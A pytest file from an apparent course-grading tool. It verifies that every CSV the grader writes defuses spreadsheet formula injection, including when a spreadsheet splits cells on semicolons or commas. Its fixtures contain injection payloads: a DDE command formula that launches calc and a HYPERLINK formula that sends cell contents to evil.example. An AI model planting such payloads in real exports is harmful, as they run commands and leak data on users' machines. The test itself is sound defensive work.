"""Spreadsheet formulas defused in every CSV the grader writes (issue 26, item 3): no cell, nor any
piece of one a spreadsheet splitting on `;` (French) or `,` (English) makes a cell, starts with a
formula character; a filled sheet gives the student's key back as it was."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from grader.lms.manual import read_sheet, validate
from grader.lms.manual_sheets import SheetRow, sheet_csv
from grader.lms.roster_lines import write_unmatched
from grader.model import Assignment, Message, Question, SubmissionResult
from grader.reports.csv import FORMULA_START, DefusedWriter, defuse, grades_csv, undefuse

HOSTILE = ["x;=1+2", 'a,=HYPERLINK("http://evil.example/?"&A1;"clic")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
           "@SUM(A1)", "\tx", "\r=1", "b;\t=1", "c,+1;-1,@x", "'=déjà", "''=deux", "d;'=e", "plain", "é,;,"]
Q = Question("w1", 2.0, Message("Réponse écrite", "Written answer"), kind="manual")
ASSIGNMENT = Assignment("tp-x", Message("TP x", "Lab x"), (Q,))


def cells(text: str) -> list[str]:
    """Every cell Python's csv module finds splitting on `;`, then on `,` (what either spreadsheet sees)."""
    return [c for sep in (";", ",") for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""),
                                                           delimiter=sep) for c in row]


def live(text: str) -> list[str]:
    return [c for c in cells(text) if c.startswith(FORMULA_START) and not re.fullmatch(r"-\d+([.,]\d+)?", c)]


@pytest.mark.parametrize("value", HOSTILE)
def test_defuse_round_trips_and_leaves_no_piece_live(value):
    safe = defuse(value)
    assert undefuse(safe) == value
    for piece in re.split(r"[;,]", safe):
        assert not piece.startswith(FORMULA_START), (value, safe)


def test_numbers_and_plain_text_are_left_as_they_are():
    for value in ("-1", "2,5", "-0.5", "17", "", "alice", "O'Neil", "a, b; c"):
        assert defuse(value) == value
        assert undefuse(value) == value


def test_grades_csv_split_either_way_holds_no_formula():
    results = [SubmissionResult(key, "tp-x", "graded", ()) for key in HOSTILE]
    text = grades_csv(results, ASSIGNMENT)
    assert not live(text), live(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    # the key comes back whole (a lone CR as the file's line break: it would end the row unquoted)
    assert sorted(undefuse(r[0]) for r in rows[1:]) == sorted(k.replace("\r", "\n") for k in HOSTILE)


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_manual_sheet_split_either_way_holds_no_formula_and_imports_back(tmp_path: Path, lang: str):
    rows = [SheetRow(key, "", score=1.0, comment=f"voir ;=A1 {key}") for key in HOSTILE]
    text = sheet_csv(Q, rows, lang)
    assert not live(text), live(text)
    sheet = tmp_path / "w1.csv"
    sheet.write_text(text, encoding="utf-8")
    read, problems = read_sheet(sheet)
    assert not problems
    scores, skipped, bad = validate(read, ASSIGNMENT, HOSTILE)
    assert not bad and skipped == 0
    assert sorted(s for s, _ in scores) == sorted(HOSTILE)
    assert {s: m.comment for s, m in scores} == {key: f"voir ;=A1 {key}" for key in HOSTILE}


def test_lms_side_file_and_any_writer_defuse(tmp_path: Path):
    write_unmatched(tmp_path / "u.csv", [["not-in-roster", "x", key, "", "", "0", "", ""] for key in HOSTILE])
    assert not live((tmp_path / "u.csv").read_text(encoding="utf-8-sig"))
    buf = io.StringIO()
    DefusedWriter(buf).writerows([[key, 1.5, -2, "-3"] for key in HOSTILE])
    assert not live(buf.getvalue())


def test_every_csv_writer_of_the_grader_is_the_defused_one():
    """Canvas, Moodle, grades.csv, manual sheets, side files: one helper; a bare csv.writer is a leak."""
    root = Path(__file__).resolve().parents[2] / "grader"
    bare = [str(p.relative_to(root)) for p in root.rglob("*.py")
            if "csv.writer(" in p.read_text(encoding="utf-8") and p.name != "csv.py"]
    assert not bare, bare


def test_a_sheet_row_with_an_extra_field_is_named(tmp_path: Path):
    sheet = tmp_path / "w1.csv"
    sheet.write_text("élève;question;note;commentaire\nalice;w1;1;bien; mais court\nbob;w1;2;ok;\n",
                     encoding="utf-8")
    rows, problems = read_sheet(sheet)
    assert [r.student for r in rows] == ["bob"]  # a trailing empty field is what spreadsheets write: fine
    [problem] = problems
    assert "w1.csv, ligne 2" in problem.fr and "mais court" in problem.fr and "guillemets" in problem.fr
    assert "w1.csv, line 2" in problem.en and "inside quotes" in problem.en


def test_canvas_and_moodle_imports_split_either_way_hold_no_formula(tmp_path: Path):
    """Names and ids come from the LMS's roster and the students' files; feedback quotes student text."""
    import json

    from grader.lms.exports import export

    out = tmp_path / "out"
    out.mkdir()
    subs = [{"student": key, "status": "graded", "score": 1.5, "max_score": 2.0,
             "errors": [f"ValueError: ;=HYPERLINK(\"http://evil.example\") {key}"], "questions": {},
             "info": {}} for key in ("x;=1+2", "a,=HYPERLINK(1)")]
    (out / "results.json").write_text(json.dumps({"assignment": "tp-x", "title": "TP x", "lang": "fr",
                                                  "max_score": 2.0, "submissions": subs}), encoding="utf-8")
    (tmp_path / "canvas.csv").write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section\r\n"
        '"=cmd|\' /C calc\'!A0",x;=1+2,"s;=1",x;=1+2,"A,@SUM(1)"\r\n'
        '"Doe;+1",a;=HYPERLINK(1),s-2,"a,=HYPERLINK(1)",-B\r\n', encoding="utf-8")
    (tmp_path / "moodle.csv").write_text(
        'Identifier,Full name,Email address,Status\r\n'
        'Participant 1,"x;=1+2","x;=1+2",sub\r\n'
        'Participant 2,"a,=HYPERLINK(1)","a,=HYPERLINK(1)",sub\r\n', encoding="utf-8")
    for lms in ("canvas", "moodle"):
        done = export(lms, out, tmp_path / f"{lms}.csv", key="SIS Login ID" if lms == "canvas" else "Email address")
        for path in (done.path, done.unmatched):
            text = path.read_text(encoding="utf-8-sig")
            assert not live(text), (lms, path.name, live(text))
